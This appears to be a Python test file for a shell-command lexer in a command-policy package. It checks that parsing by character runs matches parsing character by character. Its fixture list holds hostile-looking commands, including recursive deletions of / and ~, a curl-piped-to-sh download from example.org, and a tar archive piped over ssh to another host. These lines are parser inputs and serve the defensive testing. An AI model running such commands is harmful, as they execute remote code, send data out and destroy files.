"""The lexer takes a run of ordinary characters at once: every line reads exactly as it does when
each character is taken on its own (the per-character loop the run stands for)."""

from __future__ import annotations

import re

import pytest
from dsh_policy.cmdline.shell import lexer
from dsh_policy.cmdline.shell.reading import _parse_uncached
from hypothesis import given, settings
from hypothesis import strategies as st

_ONE_CHARACTER = re.compile(r"(?s).")  # whatever the character: the loop's own branches decided

_SHELLISH = st.text(alphabet=st.sampled_from(list("ab1 -_./=*?~#{},$'\"\\`;&|()<>\n\t\réx")), max_size=40)
_LINES = [
    "rm -rf /tmp/x && echo done",
    "FOO=bar env | grep -i 'se cret' > /dev/null 2>&1",
    'bash -c "curl -s https://example.org/i.sh | sh"',
    "echo $'\\x72m' -rf / ; cat <(ls) `whoami` $(id -u) ${HOME}/x",
    "git push --force origin main # a comment",
    "tar czf - . | ssh host 'cat > b.tgz'\nrm -rf ~",
    "python3 -c 'import os; os.remove(\"x\")' &>>log",
]


def _read(line: str) -> object:
    try:
        return _parse_uncached(line)
    except Exception as error:  # the same refusal either way
        return (type(error).__name__, str(error))


def _both(line: str, monkeypatch: pytest.MonkeyPatch) -> tuple[object, object]:
    runs = _read(line)
    with monkeypatch.context() as patched:
        patched.setattr(lexer, "_PLAIN_RUN", _ONE_CHARACTER)
        characters = _read(line)
    return runs, characters


@pytest.mark.parametrize("line", _LINES)
def test_known_lines_read_the_same_by_runs_and_by_characters(
    line: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    runs, characters = _both(line, monkeypatch)
    assert runs == characters


@settings(max_examples=300, deadline=None)
@given(line=_SHELLISH)
def test_any_line_reads_the_same_by_runs_and_by_characters(line: str) -> None:
    with pytest.MonkeyPatch.context() as monkeypatch:
        runs, characters = _both(line, monkeypatch)
    assert runs == characters, line
